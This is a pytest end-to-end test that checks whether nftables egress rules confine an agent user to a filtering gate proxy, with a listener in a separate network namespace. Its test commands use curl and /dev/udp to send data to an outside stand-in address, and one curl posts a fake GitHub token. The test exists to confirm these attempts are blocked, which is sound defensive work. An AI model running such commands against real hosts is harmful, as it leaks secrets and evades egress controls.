"""The rules of docs/egress.md for nftables, as they stand there: the agent's user reaches nothing but the gate.

Two networks of the test's own with a wire between them: the agent and the gate in one, a stranger in the other.
"""

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from support.egress_process import PATIENCE_S, Child, child, ready
from support.gate import ROOT
from support.network import own_network

pytestmark = pytest.mark.e2e
# The user of the agent in this test: on all systems, nobody has this number.
AGENT = 65534
# Addresses that stand for public ones in examples (RFC 5737); not those that the network of a test has on loopback.
HERE, THERE = "203.0.113.1", "203.0.113.66"
SECRET = "ghp_F4keK3yF0rT3stF4keK3yF0rT3stF4keK3yF"
# A stranger: whatever comes is a line of its output, by HTTP and by datagrams as to a resolver.
STRANGER = f"""
import http.server, socket, threading
class Handler(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        print("http", self.client_address[0], body.decode(), flush=True)
        self.send_response(200); self.send_header("Content-Length", "0"); self.end_headers()
    def log_message(self, *_): pass
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(("{THERE}", 53))
def hear():
    while True:
        print("udp", sock.recv(4096).decode(), flush=True)
threading.Thread(target=hear, daemon=True).start()
server = http.server.ThreadingHTTPServer(("{THERE}", 80), Handler)
print("ready", flush=True)
server.serve_forever()
"""


@dataclass(frozen=True, slots=True)
class Place:
    """The gate, and the stranger on the other end of the wire."""

    gate: Child
    stranger: "subprocess.Popen[str]"

    def agent(self, command: str, **environ: str) -> "subprocess.CompletedProcess[str]":
        """Run a command as the agent's user."""
        return subprocess.run(
            ["bash", "-c", command],
            user=AGENT,
            group=AGENT,
            extra_groups=[],
            env={"PATH": "/usr/local/bin:/usr/bin:/bin", **environ},
            cwd="/",
            capture_output=True,
            text=True,
            timeout=PATIENCE_S,
            check=False,
        )

    def heard(self) -> str:
        """Give the next thing that the stranger heard."""
        assert self.stranger.stdout is not None
        return self.stranger.stdout.readline().strip()


@contextmanager
def wire() -> Iterator[str]:
    """Join this network with another one; give that one's name."""
    name = f"herma-{os.getpid()}"
    subprocess.run(["ip", "netns", "add", name], check=True, capture_output=True)
    try:
        for command in (
            f"ip link add wan type veth peer name far netns {name}",
            f"ip addr add {HERE}/24 dev wan",
            "ip link set wan up",
            f"ip -n {name} addr add {THERE}/24 dev far",
            f"ip -n {name} link set far up",
        ):
            subprocess.run(command.split(), check=True, capture_output=True)
        yield name
    finally:
        subprocess.run(["ip", "netns", "delete", name], check=False, capture_output=True)


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Place]:
    """All of it, before there are rules."""
    if os.geteuid() != 0 or shutil.which("nft") is None:
        pytest.skip("the rules need root and nftables")
    with own_network(), wire() as other:
        command = ["ip", "netns", "exec", other, sys.executable, "-c", STRANGER]
        with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as stranger:
            try:
                with child(tmp_path, {"near": [f"{THERE}:80"]}) as gate:
                    made = Place(ready(gate), stranger)
                    assert made.heard() == "ready"
                    yield made
            finally:
                stranger.kill()


def rules() -> str:
    """Give the example of the page, with the number of this test's user."""
    page = (ROOT / "docs" / "egress.md").read_text()
    found = re.search(r"```text\n(table inet hermes \{.*?\n\})\n```", page, re.DOTALL)
    assert found is not None
    return found[1].replace('"hermes"', str(AGENT))


def test_the_agent_reaches_nothing_but_the_gate(place: Place) -> None:
    """Neither by leaving out the variables nor by another protocol; what the gate lets out arrives."""
    straight = f"curl -sS --noproxy '*' --max-time 5 -d direct http://{THERE}/"
    datagram = f"echo -n datagram > /dev/udp/{THERE}/53"
    assert place.agent(straight).returncode == 0
    assert place.heard() == f"http {HERE} direct"
    assert place.agent(datagram).returncode == 0
    assert place.heard() == "udp datagram"

    subprocess.run(["nft", "-f", "-"], input=rules(), text=True, check=True, capture_output=True)
    assert place.agent(straight).returncode != 0
    place.agent(datagram)
    place.agent(f"ping -c 1 -W 1 {THERE}")

    proxy = f"http://127.0.0.1:{place.gate.port}"
    said = place.agent(f"curl -sS -d '{SECRET}' http://{THERE}/", http_proxy=proxy)
    assert '"herma.egress.secret"' in said.stdout
    assert place.agent(f"curl -sS -d innocent http://{THERE}/", http_proxy=proxy).returncode == 0
    # The first thing since: nothing of what was tried around the gate came.
    assert place.heard() == f"http {HERE} innocent"


def test_the_gate_is_not_bound_by_the_rules_of_the_agent(place: Place) -> None:
    """It runs as another user."""
    subprocess.run(["nft", "-f", "-"], input=rules(), text=True, check=True, capture_output=True)
    command = f"curl -sS --noproxy * --max-time 5 -d other http://{THERE}/"
    assert subprocess.run(command.split(), check=False, capture_output=True).returncode == 0
    assert place.heard() == f"http {HERE} other"
